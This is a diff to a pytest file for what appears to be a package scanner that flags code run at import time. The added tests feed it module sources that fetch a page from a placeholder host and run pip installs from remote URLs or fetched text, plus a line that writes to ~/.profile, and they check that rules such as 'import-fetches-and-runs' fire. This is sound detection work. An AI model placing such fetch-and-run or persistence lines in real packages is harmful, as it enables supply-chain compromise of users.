@@ -51,6 +51,7 @@ IDLE = {
     + b"\nclass Model(Base):\n    pass\n",
     "a name in a list": SENDING + b"\n__all__ = ['_beat']\nHANDLERS = {'beat': _beat}\n",
     "a clear screen": b"import os\nos.system('cls' if os.name == 'nt' else 'clear')\nos.system('')\n",
+    "words for whoever looks": b"import os, requests\nos.system(\"echo 'done'\")\nos.system('pause')\n",
     "what is there": b"import subprocess\nflags = subprocess.check_output(['pkg-config', '--libs', 'x'], text=True)\n",
     "its own machine": b"""
 from socket import socket
@@ -155,6 +156,24 @@ def test_a_library_is_known_under_names_that_are_given_to_it(source: bytes) -> N
 @pytest.mark.parametrize("source", IDLE.values(), ids=IDLE)
 def test_a_module_that_waits_until_it_is_asked_fires_nothing(source: bytes) -> None:
     assert not any(name.startswith("import-") for name in fired(WHEEL, wheel({"tidetables/__init__.py": source})))
+
+
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        (b"'pip install tide'", "import-talks-to-network"),
+        (b"f'{sys.executable} -m pip install -U tide>=2'", "import-talks-to-network"),
+        (b"'pip install https://x.example.org/tide.whl'", "import-fetches-and-runs"),
+        (b"'pip install tide -i http://x.example.org/'", "import-fetches-and-runs"),
+        (b"'pip install tide && ' + page.text", "import-fetches-and-runs"),
+        (b"f'pip install {page.text}'", "import-fetches-and-runs"),
+        (b"'echo x > ~/.profile'", "import-fetches-and-runs"),
+    ],
+)
+def test_packages_that_pip_is_told_by_name_are_not_what_was_fetched(command: bytes, rule: str) -> None:
+    source = b"import os, sys, requests\npage = requests.get('https://x.example.org/')\nos.system(" + command + b")\n"
+    told = fired(WHEEL, wheel({"tidetables/__init__.py": source}))
+    assert rule in told and "import-starts-program" in told
 
 
 FETCHES = b"import os, platform, subprocess, urllib.request\n"
